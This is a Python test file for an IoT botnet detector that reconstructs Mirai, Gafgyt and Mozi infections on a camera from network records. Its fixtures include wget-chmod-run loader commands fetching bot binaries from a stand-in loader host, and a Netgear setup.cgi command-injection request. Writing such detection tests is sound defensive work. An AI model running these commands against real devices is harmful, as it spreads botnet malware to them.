"""Stories of infections, and the ordinary life that is none."""

import json
from collections import Counter
from dataclasses import replace
from datetime import UTC, datetime
from typing import Any

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

from botwarden.core.address import ip_halves
from botwarden.core.record import Record
from botwarden.core.verdict import Verdict
from botwarden.detect.life import MAX_CHAPTERS
from botwarden.detect.state import METER
from botwarden.detect.thresholds import MIRAI
from botwarden.detect.watchers.infection import MAX_LIVES, Infection
from detect.traffic import SHARED
from detect.watchers.scenes import (
    BOT,
    CAM,
    CNC,
    DEVICES,
    DVR,
    LAPTOP,
    LOADER,
    T0,
    conn,
    entered,
    fetched,
    ftp,
    http,
    is_local,
    judged,
    refused,
    scene,
    ssh,
    telnet,
    tftp,
    watch,
)

TYPED = ("enable", "system", "shell", "sh", "/bin/busybox ECCHI")
LOADED = (*TYPED, f"cd /tmp; wget http://{LOADER}/bins/mirai.arm; chmod 777 mirai.arm; ./mirai.arm telnet")
BEFORE: list[Record] = [conn(CAM, "203.0.113.10", -3600 + 60 * n, 443) for n in range(60)]
GUESSES: list[Record] = [refused(BOT, CAM, n, user) for n, user in enumerate(["root", "admin"] * 3 + ["root"])]


def story(records: list[Record], episodes: Any = None) -> Verdict:
    (verdict,) = judged(Infection, records, episodes)[CAM]
    assert verdict.label == "infection"
    assert verdict.severity == "critical"
    return verdict


def mirai(at: float) -> Any:
    """An episode of Mirai's scanner on the camera."""
    episode = np.zeros(1, METER)
    episode["kind"], episode["src"], episode["raised"] = MIRAI, DEVICES[CAM], 1
    episode["start"], episode["last"], episode["total"] = T0 + at, T0 + at + 30, 400
    episode["src_hi"], episode["src_lo"] = ip_halves(CAM)
    return episode


def test_the_whole_story_reads_in_the_order_of_time() -> None:
    records = [
        *BEFORE,
        *GUESSES,
        *fetched(CAM, LOADER, 20, "/bins/mirai.arm"),
        entered(BOT, CAM, 8, commands=LOADED, tokens=("ECCHI",)),
        conn(CAM, CNC, 26, 48101, "S1", duration=900.0),
        *(conn(CAM, "203.0.113.10", 60 * n, 443) for n in range(10)),
    ]
    verdict = story(records, mirai(40))
    assert story(records[::-1], mirai(40)) == verdict  # records come in no certain order
    assert verdict.role == "attacker"
    assert verdict.confidence == 0.99
    assert verdict.reasons == [
        f"broken into over telnet at 14:30:10 UTC by {BOT}, who logged in as root with a password of Mirai's list "
        "after 7 failed tries",
        "ran: enable; system; shell; sh; /bin/busybox ECCHI; "
        "cd /tmp; wget http://185.10.1.9/bins/mirai.arm; chmod 777 m… (looks like Mirai)",
        "fetched an ARM executable, mirai.arm (45.0 kB, SHA-256 abababababababab…), "
        f"from http://{LOADER}/bins/mirai.arm at 14:30:20",
        f"since 14:30:26 it talks to {CNC}, TCP port 48101",
        "from 14:30:40 on it scans like Mirai",
    ]
    assert [step["kind"] for step in verdict.evidence["steps"]] == [
        "login",
        "commands",
        "download",
        "conversation",
        "scan.mirai",
    ]
    assert verdict.evidence["family"] == "Mirai"
    assert verdict.evidence["iocs"] == {
        "addresses": [BOT, LOADER, CNC],
        "urls": [f"http://{LOADER}/bins/mirai.arm"],
        "sha256": ["ab" * 32],
        "tokens": ["ECCHI"],
    }
    assert (verdict.first_ts, verdict.last_ts) == (T0 + 10, T0 + 926)
    assert "network" in verdict.advice


def test_confidence_grows_with_each_step() -> None:
    commands = {"commands": TYPED}
    steps: list[list[Record]] = [
        [*BEFORE, *GUESSES, entered(BOT, CAM, 8)],
        [*BEFORE, *GUESSES, entered(BOT, CAM, 8, **commands)],
        [*BEFORE, *GUESSES, entered(BOT, CAM, 8, **commands), *fetched(CAM, LOADER, 20, "/x.arm")],
        [
            *[*BEFORE, *GUESSES, entered(BOT, CAM, 8, **commands), *fetched(CAM, LOADER, 20, "/x.arm")],
            conn(CAM, CNC, 26, 48101),
        ],
    ]
    assert [round(story(records).confidence, 2) for records in steps] == [0.7, 0.9, 0.95, 0.99]
    assert [story(records).role for records in steps] == ["victim", "attacker", "attacker", "attacker"]


def test_the_loader_that_comes_after_the_guesser_belongs_to_the_same_story() -> None:
    """Mirai's scanner reports what it found; another machine logs in at once and loads the bot."""
    records = [
        *GUESSES,
        entered(BOT, CAM, 8, commands=TYPED),
        entered(LOADER, CAM, 30, commands=LOADED),
        *fetched(CAM, LOADER, 40, "/bins/mirai.arm"),
    ]
    verdict = story(records)
    assert verdict.reasons[0].endswith("after 7 failed tries; 1 more way in by 1 other address")
    assert verdict.reasons[1].startswith(f"ran at 14:30:32 from {LOADER}: enable; ")
    assert verdict.evidence["entries"] == 2


def test_a_capture_that_begins_in_the_middle_tells_the_rest() -> None:
    records = [telnet(BOT, CAM, 0, commands=LOADED), *fetched(CAM, LOADER, 9, "/bins/mirai.arm")]
    verdict = story(records)
    assert verdict.reasons[0] == f"broken into over telnet before 14:30:00 UTC: {BOT} had a shell already"
    assert verdict.confidence > 0.9


def test_commands_alone_are_enough_where_they_are_a_bots() -> None:
    verdict = story([entered(BOT, CAM, 0, user="anna", listed=False, commands=TYPED)])
    assert verdict.reasons[0].endswith("who logged in as anna at once")
    assert 0.6 < verdict.confidence < 0.7


def test_gafgyt_and_a_script() -> None:
    line = f"cd /tmp || cd /var/run || cd /mnt; wget http://{LOADER}/bins.sh; chmod 777 bins.sh; sh bins.sh"
    records = [
        entered(BOT, CAM, 0, commands=("sh", line)),
        *fetched(CAM, LOADER, 5, "/bins.sh", kind="shell script"),
        *fetched(CAM, LOADER, 6, "/m", kind="ELF 32-bit MSB MIPS"),
        conn(CAM, LOADER, 9, 666),
    ]
    verdict = story(records)
    assert verdict.evidence["family"] == "Gafgyt"
    assert verdict.reasons[1].endswith("(looks like Gafgyt)")
    assert verdict.reasons[2].startswith("fetched a shell script, bins.sh (")
    assert verdict.reasons[3].startswith("fetched a MIPS executable, m (")
    assert verdict.reasons[4] == f"since 14:30:09 it talks to {LOADER}, TCP port 666"


def test_a_download_over_tftp_by_its_name() -> None:
    records = [*GUESSES, entered(BOT, CAM, 8), tftp(CAM, LOADER, 12, "tftp1.sh"), tftp(CAM, LOADER, 13, "bot.mpsl")]
    verdict = story(records)
    assert f"fetched a program by its name, bot.mpsl (45.0 kB), from tftp://{LOADER}/bot.mpsl at 14:30:13" in (
        verdict.reasons
    )


def test_ssh_after_guessing() -> None:
    records = [*(ssh(BOT, CAM, n, False, attempts=3) for n in range(10)), ssh(BOT, CAM, 20, True)]
    verdict = story(records)
    assert verdict.reasons == [f"broken into over SSH at 14:30:20 UTC by {BOT}, who logged in after 30 failed tries"]
    assert verdict.role == "victim"


def test_ftp_after_guessing() -> None:
    tries = [ftp(BOT, CAM, n, user, 530, listed=True) for n, user in enumerate(["admin", "root"] * 3)]
    records = [*tries, ftp(BOT, CAM, 9, "admin", 230)]
    assert "over FTP" in story(records).reasons[0]


def test_a_neighbour_can_be_the_intruder() -> None:
    records = [*(refused(DVR, CAM, n) for n in range(7)), entered(DVR, CAM, 8, commands=TYPED)]
    verdict = story(records)
    assert DVR in verdict.reasons[0]
    assert verdict.evidence["iocs"]["addresses"] == []


def test_an_exploit_and_the_download_that_it_ordered() -> None:
    uri = f"/setup.cgi?todo=syscmd&cmd=wget+http://{LOADER}/Mozi.m+-O+/tmp/netgear"
    attack = http(BOT, CAM, 0, uri, 200, signs=("EDB-25978",))
    verdict = story([attack, *fetched(CAM, LOADER, 3, "/Mozi.m", kind="ELF 32-bit MSB MIPS")])
    assert verdict.reasons[0] == f"attacked over HTTP at 14:30:00 UTC by {BOT}: EDB-25978, answered with 200"
    assert verdict.confidence == 0.9
    assert verdict.evidence["iocs"]["urls"] == [f"http://{LOADER}/Mozi.m"]
    refusal = http(BOT, CAM, 0, uri, 500, signs=("EDB-25978",))
    assert 0.8 < story([refusal, *fetched(CAM, LOADER, 3, "/Mozi.m")]).confidence < 0.9
    assert judged(Infection, [refusal, *fetched(CAM, "203.0.113.10", 3, "/Mozi.m")]) == {}
    assert judged(Infection, [refusal], mirai(50)) == {}
    assert judged(Infection, [attack]) == {}
    update = fetched(CAM, "203.0.113.10", 3, "/firmware.bin")
    assert judged(Infection, [*BEFORE, attack, *update]) == {}


def test_bots_that_call_a_controller_that_is_gone() -> None:
    records = [*BEFORE, *GUESSES, entered(BOT, CAM, 8, commands=TYPED)]
    verdict = story([*records, *(conn(CAM, CNC, 20 + 5 * n, 23, "S0") for n in range(4))])
    assert verdict.reasons[-1] == f"since 14:30:20 it tries to reach {CNC}, TCP port 23"
    assert len(story([*records, conn(CAM, CNC, 20, 23, "S0")]).reasons) == 2


def test_whom_it_attacks_is_not_who_commands_it() -> None:
    scanned = [f"198.51.100.{n}" for n in range(60)]
    records = [
        *[*BEFORE, *GUESSES, entered(BOT, CAM, 8, commands=TYPED)],
        *(conn(CAM, ip, 30 + n, 23, duration=20.0) for n, ip in enumerate(scanned)),
        *(refused(CAM, ip, 30 + n) for n, ip in enumerate(scanned)),
        conn(CAM, CNC, 26, 23, duration=600.0),
    ]
    assert story(records).reasons[2:] == [f"since 14:30:26 it talks to {CNC}, TCP port 23"]


def test_whom_it_knew_before_is_no_news() -> None:
    known = [conn(CAM, "203.0.113.99", -1000, 9999), conn(CAM, "203.0.113.99", 50, 9999)]
    usual = [conn(CAM, "203.0.113.98", 50, 443), conn(CAM, "203.0.113.97", 50, 32100, "SF", proto="udp")]
    records = [*BEFORE, *GUESSES, entered(BOT, CAM, 8, commands=TYPED), *known, *usual]
    assert len(story(records).reasons) == 2


def test_what_it_did_before_is_not_held_against_the_intruder() -> None:
    records = [*BEFORE, *GUESSES, entered(BOT, CAM, 8)]
    assert len(story(records, mirai(-500)).reasons) == 1
    assert len(story(records, mirai(500)).reasons) == 2


def test_a_device_that_is_infected_again_has_two_stories_in_one_verdict() -> None:
    again = 5 * 3600
    records = [
        *[*GUESSES, entered(BOT, CAM, 8, commands=LOADED), *fetched(CAM, LOADER, 20, "/x.arm")],
        entered("198.51.100.9", CAM, again, commands=TYPED),
    ]
    verdict = story(records)
    assert verdict.evidence["episode_count"] == 2
    assert len(verdict.evidence["episodes"]) == 2
    assert verdict.reasons[0].startswith("broken into over telnet at 14:30:10 UTC")
    assert verdict.reasons[-1].startswith("broken into over telnet at 19:30:02 UTC by 198.51.100.9")


ADMIN = ("cd /tmp", "wget http://192.168.0.40/tool", "chmod +x tool", "./tool", "cat /proc/cpuinfo", "exit")


@pytest.mark.parametrize("records", [
    [entered(LAPTOP, CAM, 0, "anna", listed=False, commands=ADMIN), *fetched(CAM, LAPTOP, 5, "/tool")],
    [*(refused(LAPTOP, CAM, n, "anna", listed=False) for n in range(3)),
     entered(LAPTOP, CAM, 9, "anna", listed=False, commands=ADMIN)],
    [entered(LAPTOP, CAM, 0, "root", commands=ADMIN), *fetched(CAM, LAPTOP, 5, "/tool")],
    [entered("203.0.113.77", CAM, 0, "root", commands=("ls", "reboot")), conn(CAM, CNC, 30, 48101)],
    [*fetched(CAM, "203.0.113.10", 5, "/firmware/camera.bin"), conn(CAM, CNC, 30, 48101)],
    [*fetched(CAM, "203.0.113.10", 5, "/bins.sh", kind="shell script")],
    GUESSES,
    [*(ssh(LAPTOP, CAM, 60 * n, True, attempts=4) for n in range(40))],
    [*(ftp(LAPTOP, CAM, 60 * n, "cam", 230) for n in range(40))],
    [*(ftp(DVR, CAM, 60 * n, "dvr", 530) for n in range(99)), ftp(DVR, CAM, 6000, "dvr", 230)],
    [*(ssh(DVR, CAM, 60 * n, False) for n in range(99)), ssh(DVR, CAM, 6000, True)],
    [telnet(LAPTOP, CAM, 0, commands=("help", "show version", "exit"))],
    [http(LAPTOP, CAM, n, "/snapshot.jpg", 200, username="admin", dictionary=("default",)) for n in range(9)],
    [entered(CAM, "198.51.100.9", 0, commands=TYPED)],
], ids=["admin", "slip", "factory password at home", "owner abroad", "firmware", "script", "guessing in vain",
        "keys", "ftp", "old password", "old key", "menu", "web", "attacker"])  # fmt: skip
def test_ordinary_life_is_no_infection(records: list[Record]) -> None:
    assert judged(Infection, [*BEFORE, *records]) == {}


def test_a_scan_after_an_admins_visit_is_the_scans_own_verdict() -> None:
    records = [*BEFORE, entered(LAPTOP, CAM, 0, "anna", listed=False, commands=ADMIN)]
    assert judged(Infection, records, mirai(100)) == {}


def test_memory_stays_within_its_limits() -> None:
    watcher = Infection(is_local)
    for n in range(3 * MAX_LIVES):
        watcher.update(entered(BOT, f"192.168.{n >> 8}.{n & 255}", n, commands=TYPED))
    for n in range(5000):
        watcher.update(conn(CAM, f"198.51.{n >> 8}.{n & 255}", n, 23, "S0" if n % 2 else "SF"))
        watcher.update(entered(f"198.51.{n >> 8}.{n & 255}", CAM, 4000 * n, commands=TYPED))
        watcher.update(refused(f"198.51.{n >> 8}.{n & 255}", CAM, n))
        watcher.update(refused(CAM, f"198.51.{n >> 8}.{n & 255}", n))
        for record in fetched(CAM, LOADER, n, f"/{n}.arm"):
            watcher.update(record)
    watcher._sessions.flush()
    lives = dict(watcher._lives.items())
    assert len(lives) == MAX_LIVES
    life = lives[CAM]
    sizes = [len(life.guessers), len(life.servers), len(life.fetches), len(life.contacts()), len(life.chapters)]
    assert max(sizes) <= 288
    assert len(watch(Infection, [telnet(BOT, CAM, 0, commands=LOADED)] * 5000)) == 1


IPS = st.sampled_from([CAM, DVR, BOT, LOADER])
TIMES = st.floats(-1e6, 1e6)
LINES = st.lists(st.sampled_from([*LOADED, "ls", ""]) | st.text(max_size=60), max_size=9).map(tuple)
RECORDS = st.one_of(
    st.builds(refused, IPS, IPS, TIMES, n=st.integers(0, 9)).map(lambda record: [record]),
    st.builds(entered, IPS, IPS, TIMES, listed=st.booleans(), commands=LINES).map(lambda record: [record]),
    st.builds(telnet, IPS, IPS, TIMES, commands=LINES, login_ts=st.none() | TIMES).map(lambda record: [record]),
    st.builds(ssh, IPS, IPS, TIMES, st.none() | st.booleans(), st.integers(0, 30)).map(lambda record: [record]),
    st.builds(fetched, IPS, IPS, TIMES, st.text(max_size=20), st.none() | st.text(max_size=20)),
    st.builds(
        conn, IPS, IPS, TIMES, st.integers(0, 65535), st.sampled_from(["SF", "S0", "x"]), duration=st.none() | TIMES
    ).map(lambda record: [record]),
    st.builds(
        http, IPS, IPS, TIMES, st.text(max_size=60), st.none() | st.integers(0, 999), signs=st.just(("CVE-2017-17215",))
    ).map(lambda record: [record]),
)


@given(st.lists(RECORDS, max_size=40), st.booleans())
def test_any_records_are_digested(several: list[list[Record]], scans: bool) -> None:
    records = [record for some in several for record in some]
    for claim in watch(Infection, records, mirai(0) if scans else None):
        assert 0.5 <= claim.confidence < 1
        assert claim.first_ts <= claim.last_ts
        assert claim.evidence["steps"]


def test_a_year_of_real_break_ins() -> None:
    """Logins of bots on twelve exposed devices, with the word that each asked busybox for."""
    folder = SHARED / "telnet_sessions"
    if not folder.is_dir():
        pytest.skip(f"{folder} is not here")
    watcher, names = Infection(is_local), dict[str, str]()
    texts = [line for path in sorted(folder.iterdir()) for line in path.read_text().splitlines()]
    for line in filter(lambda line: line["time"] != "-", map(json.loads, filter(None, texts))):
        device = names.setdefault(line["device"], f"192.168.7.{len(names)}")
        at = datetime.fromisoformat(line["time"]).replace(tzinfo=UTC).timestamp() - T0
        typed = ("enable", "system", "shell", "sh", f"/bin/busybox {line['token']}")
        record = entered(line["src_ip"], device, at, listed=False, commands=typed, tokens=(line["token"],))
        watcher.update(record)
    claims = list(watcher.claims(replace(scene(), serial=lambda ip, ts: int(ip.rpartition(".")[2]))))
    assert {claim.serial for claim in claims} == set(range(len(names)))
    assert all(claim.role == "attacker" and claim.confidence > 0.6 for claim in claims)
    assert all(claim.evidence["family"] == "Mirai" for claim in claims)
    assert max(Counter(claim.serial for claim in claims).values()) <= MAX_CHAPTERS
